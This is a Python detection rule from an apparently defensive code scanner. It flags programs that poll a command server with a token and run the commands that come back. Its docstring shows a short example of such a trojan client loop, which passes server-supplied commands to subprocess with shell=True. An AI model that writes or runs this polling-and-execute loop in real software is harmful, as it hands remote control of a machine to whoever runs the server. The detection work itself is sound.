"""What it sees
    The client of a command server: a first request, something of its answer handed back in later requests (a token,
    an id), a loop with a pause, and commands or code from the answers that are run.

Why it matters
    It is the protocol of graphalgo's remote access trojan and of its 2023 forerunners: without the token the server
    answers nothing, so that nobody else sees the payload.

Example
    token = requests.post(url, json=facts).json()["token"]
    while True:
        task = requests.get(url, headers={"token": token}).json()
        subprocess.run(task["command"], shell=True)
        time.sleep(10)

What to do
    Do not run it. If it ran, disconnect the machine: somebody else had a shell on it.

False alarms
    Job runners poll a server for work; theirs is configured by the user and reported with less confidence.

References
    ATT&CK T1071.001 (Web Protocols), T1059, T1573.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, command_of, defanged, runs_code, sendings, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_facts import Call
from lazaretto.parse.python import PythonModule

_CLIENT = N_("polls {address} with a token that it got there, and runs what comes back")
_CLIENT_AWAY = N_("polls a server with a token that it got there, and runs what comes back")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield one finding for a file that holds all parts."""
    if not view.speaks("net") or not (view.speaks("process") or view.speaks("exec")):
        return
    if not any(call.name in {"time.sleep", "asyncio.sleep"} for call in view.facts.calls):
        return
    sent = list(sendings(view))
    back = [
        s
        for s in sent
        if s.how in {"http", "socket"}
        and {"net", "net~"} & s.call.tags()
        and s.call.attr in {"get", "post", "put", "request", "send", "sendall", "urlopen"}
    ]
    runs = [
        c
        for c in view.facts.calls
        if (starts_process(c) or runs_code(c))
        and {"net", "net~"} & c.tags()
        and not c.name.startswith("~")
        and not _names_tool(c)
    ]
    if not back or not runs:
        return
    first = back[0]
    known = max((s.place for s in sent), default=Place.UNKNOWN) > Place.LOCAL
    yield Match(
        _CLIENT if first.place else _CLIENT_AWAY,
        runs[0].line,
        runs[0].column,
        params={"address": defanged(first.address)},
        excerpt=view.quote(runs[0].line),
        severity=Severity.HIGH if known else Severity.MEDIUM,
        confidence=Confidence.MEDIUM if known and not view.is_test else Confidence.LOW,
        phase=view.phase(runs[0].scope),
    )


_INTERPRETERS = re.compile(
    r"(?:python[\w.]*|%PYTHON%|node|(?:ba|z|da)?sh|cmd|powershell|pwsh|perl|ruby|php)(?:\.exe)?$", re.IGNORECASE
)


_TOOL = re.compile(
    r"(?!(?:python|node|bash|zsh|powershell|pwsh|perl|ruby|eval|exec|invoke-expression|start-process|start)\b)[a-z][\w-]{3,60}(?:\.exe)?\s+[^\s]",
    re.IGNORECASE,
)
"""A command line that begins with a tool that is written out."""


def _names_tool(call: Call) -> bool:
    """Tell whether the program is written out, and no interpreter: what came back is only an argument of it."""
    items = call.arg(0, "args", "cmd").items or ()
    if len(items) > 1 and _INTERPRETERS.search(items[0].shape) and items[1].shape.lower() in {"-c", "-command", "/c"}:
        return _TOOL.match(items[-1].shape) is not None
    if items:
        return items[0].text is not None and _INTERPRETERS.search(items[0].shape) is None
    return starts_process(call) and _TOOL.match(command_of(call)) is not None


RULE = Rule(
    id="py/token-poll-c2",
    title=N_("Polls a command server"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1071.001", "T1059"),
    needles=(b"sleep",),
)
